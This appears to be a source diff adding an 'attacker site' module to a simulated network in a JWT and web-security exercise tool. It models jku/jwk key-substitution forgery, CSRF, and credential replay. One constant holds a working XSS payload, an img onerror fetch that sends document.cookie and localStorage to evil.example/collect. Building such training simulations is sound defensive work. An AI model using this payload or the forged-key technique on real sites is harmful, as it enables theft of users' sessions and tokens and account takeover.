@@ -1,0 +1,197 @@
+//! The attacker (issue 12): a second site, `evil.example`, in the simulated
+//! network. It serves a key set of its own (for tokens whose `jku` points
+//! there), a page that makes the victim's browser send cross-site requests
+//! (CSRF), and an address where an injected script sends what it read (XSS).
+//! What it gets is its loot; it can then send requests from its own machine
+//! with what it stole.
+//!
+//! Its key pair is fixed (derived from a constant seed), so every run of an
+//! exercise is identical and tests can sign with it.
+
+use super::http::{Request, HOST};
+use super::server::{SESSION_COOKIE, TOKEN_COOKIE};
+use crate::jwt::decode::decode;
+use crate::jwt::keyset::{KeyEntry, KeySet};
+use crate::jwt::{Algorithm, Json};
+use crate::jwt::{Curve, PrivateKey};
+
+/// The attacker's site.
+pub const ATTACKER_HOST: &str = "evil.example";
+/// Where the attacker publishes its own key set.
+pub const ATTACKER_JWKS_URL: &str = "https://evil.example/.well-known/jwks.json";
+/// The kid of the attacker's key in that set.
+pub const ATTACKER_KID: &str = "evil-1";
+/// Where an injected script sends what it read.
+pub const COLLECT_PATH: &str = "/collect";
+/// The algorithm of the attacker's key (the one the key-pair servers use).
+pub const ATTACKER_ALG: Algorithm = Algorithm::ES256;
+/// The comment with the script hidden in it, as a visitor typed it.
+pub const INJECTED_COMMENT: &str = "Great article! <img src=x onerror=\"fetch('https://evil.example/collect',{method:'POST',body:JSON.stringify({cookie:document.cookie,storage:{...localStorage}})})\">";
+/// The display name the attacker's cross-site form asks for.
+pub const CSRF_NAME: &str = "Hacked by evil.example";
+
+/// The seed of the attacker's P-256 key: any 32 bytes below the group order.
+const SEED: [u8; 32] = *b"evil.example: the attacker key!!";
+
+/// The attacker's private key (ES256).
+pub fn attacker_key() -> Option<PrivateKey> {
+    PrivateKey::from_seed(Curve::P256, &SEED)
+}
+
+/// The key set `evil.example` publishes at [`ATTACKER_JWKS_URL`].
+pub fn attacker_key_set() -> KeySet {
+    KeySet::of(
+        attacker_key()
+            .map(|k| KeyEntry::public(k.public(), ATTACKER_KID, ATTACKER_ALG))
+            .into_iter()
+            .collect(),
+    )
+}
+
+/// The attacker's private key as a JWK, for the forge panel.
+pub fn attacker_private_jwk() -> String {
+    attacker_key()
+        .and_then(|k| k.to_jwk(Some(ATTACKER_KID), Some(ATTACKER_ALG)))
+        .map(|j| j.to_pretty())
+        .unwrap_or_default()
+}
+
+/// The attacker's public key as a JWK, to embed in a token's `jwk` header.
+pub fn attacker_public_jwk() -> Json {
+    attacker_key()
+        .map(|k| k.public().to_jwk(Some(ATTACKER_KID), Some(ATTACKER_ALG)))
+        .unwrap_or(Json::Null)
+}
+
+/// The `jku` a token carries, when it carries one as a string.
+pub fn jku_of(token: &str) -> Option<String> {
+    decode(token)
+        .header
+        .json
+        .as_ref()
+        .and_then(|h| h.get("jku").and_then(Json::as_str).map(str::to_string))
+}
+
+/// Split `https://host/path` into host and path; `None` for anything else.
+pub fn split_url(url: &str) -> Option<(&str, &str)> {
+    let rest = url.strip_prefix("https://")?;
+    let (host, path) = match rest.find('/') {
+        Some(i) => (rest.get(..i)?, rest.get(i..)?),
+        None => (rest, "/"),
+    };
+    (!host.is_empty()).then_some((host, path))
+}
+
+/// What the attacker holds, and how it got each piece.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Stolen {
+    /// A cookie name, or the `localStorage` key.
+    pub name: String,
+    pub value: String,
+    /// Where it was read: `document.cookie` or `localStorage`.
+    pub from: &'static str,
+}
+
+impl Stolen {
+    /// The credential it is, if the servers would take it as one.
+    pub fn credential(&self) -> Option<Credential> {
+        match (self.from, self.name.as_str()) {
+            ("document.cookie", SESSION_COOKIE) => Some(Credential::SessionId(self.value.clone())),
+            ("document.cookie", TOKEN_COOKIE) | ("localStorage", _)
+                if self.value.matches('.').count() == 2 =>
+            {
+                Some(Credential::Token(self.value.clone()))
+            }
+            _ => None,
+        }
+    }
+}
+
+/// A stolen credential, as the attacker sends it from its own machine.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Credential {
+    Token(String),
+    SessionId(String),
+}
+
+impl Credential {
+    /// `GET path` from the attacker's machine with this credential.
+    pub fn request(&self, path: &str) -> Request {
+        let request = Request::get(path)
+            .with_header("Host", HOST)
+            .with_header("User-Agent", "curl/8.5.0 (evil.example)");
+        match self {
+            Credential::Token(t) => request.with_header("Authorization", format!("Bearer {t}")),
+            Credential::SessionId(sid) => {
+                request.with_header("Cookie", format!("{SESSION_COOKIE}={sid}"))
+            }
+        }
+    }
+}
+
+/// What an injected script read from the page (`document.cookie` and every
+/// `localStorage` entry; a token in a closure variable it cannot name).
+pub fn read_by_script(document_cookie: &str, local_storage: &[(String, String)]) -> Vec<Stolen> {
+    let mut stolen: Vec<Stolen> = document_cookie
+        .split("; ")
+        .filter_map(|pair| pair.split_once('='))
+        .map(|(name, value)| Stolen {
+            name: name.to_string(),
+            value: value.to_string(),
+            from: "document.cookie",
+        })
+        .collect();
+    stolen.extend(local_storage.iter().map(|(name, value)| Stolen {
+        name: name.clone(),
+        value: value.clone(),
+        from: "localStorage",
+    }));
+    stolen
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
+    use super::*;
+
+    #[test]
+    fn the_attacker_key_is_fixed_and_published_without_its_private_part() {
+        let a = attacker_key().unwrap();
+        let b = attacker_key().unwrap();
+        assert_eq!(a.public().to_pem(), b.public().to_pem());
+        let set = attacker_key_set().to_public_json().to_compact();
+        assert!(set.contains(ATTACKER_KID));
+        assert!(!set.contains("\"d\""));
+        assert!(attacker_private_jwk().contains("\"d\""));
+    }
+
+    #[test]
+    fn urls_split_into_host_and_path() {
+        assert_eq!(
+            split_url(ATTACKER_JWKS_URL),
+            Some(("evil.example", "/.well-known/jwks.json"))
+        );
+        assert_eq!(split_url("https://x"), Some(("x", "/")));
+        assert_eq!(split_url("http://x/y"), None);
+        assert_eq!(split_url("https:///y"), None);
+    }
+
+    #[test]
+    fn a_script_reads_cookies_without_httponly_and_local_storage() {
+        let read = read_by_script(
+            "sid=abc; theme=dark",
+            &[("token".to_string(), "a.b.c".to_string())],
+        );
+        assert_eq!(read.len(), 3);
+        assert_eq!(
+            read[0].credential(),
+            Some(Credential::SessionId("abc".into()))
+        );
+        assert_eq!(read[1].credential(), None);
+        assert_eq!(
+            read[2].credential(),
+            Some(Credential::Token("a.b.c".into()))
+        );
+        assert!(read_by_script("", &[]).is_empty());
+    }
+}
